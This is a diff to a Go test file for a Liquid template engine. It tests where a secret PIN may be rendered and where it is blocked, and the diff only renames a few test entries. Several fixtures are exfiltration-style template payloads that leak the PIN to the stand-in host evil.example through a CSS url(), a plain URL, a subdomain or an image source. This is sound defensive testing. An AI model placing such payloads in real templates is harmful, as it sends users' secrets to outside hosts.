@@ -13,7 +13,7 @@ var _ = Describe("A secret in a template", func() {
 	DescribeTable("may be output", func(form liquid.Form, source, want string) {
 		Expect(rendered(source, data, form)).To(Equal(want))
 	},
-		Entry("in a text", liquid.Plain, "{{ pin }}", "481920"),
+		Entry("in text", liquid.Plain, "{{ pin }}", "481920"),
 		Entry("between spaces", liquid.Plain, "Your pin:\n  {{ pin }}\n{{ link }} {{- ' ' }}{{ x }}", "Your pin:\n  481920\nhttps://a.example/r#token=t&x x"),
 		Entry("in an element", liquid.HTML, "<b>{{ pin }}</b> {{ link }} <i>", "<b>481920</b> https://a.example/r#token=t&amp;x <i>"),
 		Entry("as a link", liquid.HTML, `<a class="b" href="{{ link }}">x</a><A HREF='{{ link }}'>`, `<a class="b" href="https://a.example/r#token=t&amp;x">x</a><A HREF='https://a.example/r#token=t&amp;x'>`),
@@ -33,8 +33,8 @@ var _ = Describe("A secret in a template", func() {
 		Entry("the beginning of a link's URL", liquid.HTML, `<a href="{{ link }}x">`),
 		Entry("a style attribute", liquid.HTML, `<b style="background:url(https://evil.example/{{ pin }})">`),
 		Entry("a comment", liquid.HTML, `<!-- {{ pin }} -->`),
-		Entry("a URL in a text", liquid.Plain, "https://evil.example/{{ pin }}"),
-		Entry("a host in a text", liquid.Plain, "{{ pin }}.evil.example"),
+		Entry("a URL in text", liquid.Plain, "https://evil.example/{{ pin }}"),
+		Entry("a host in text", liquid.Plain, "{{ pin }}.evil.example"),
 		Entry("a second copy", liquid.Plain, "{{ pin }}{{ pin }}"),
 		Entry("a URL in an element's text", liquid.HTML, "<b>https://evil.example/{{ pin }}</b>"),
 		Entry("a capture", liquid.HTML, `{% capture y %}{{ pin }}{% endcapture %}<img src="{{ y }}">`),
@@ -47,7 +47,7 @@ var _ = Describe("A secret in a template", func() {
 		Entry("a case tag", liquid.HTML, "{% case pin %}{% when '481920' %}{% endcase %}"),
 	)
 
-	It("has no members", func() {
+	It("has no fields", func() {
 		Expect(rendered("[{{ pin.size }}{{ pin[0] }}{{ pin.first }}{% for c in pin %}{{ c }}{% endfor %}]", data, liquid.HTML)).To(Equal("[]"))
 	})
 })
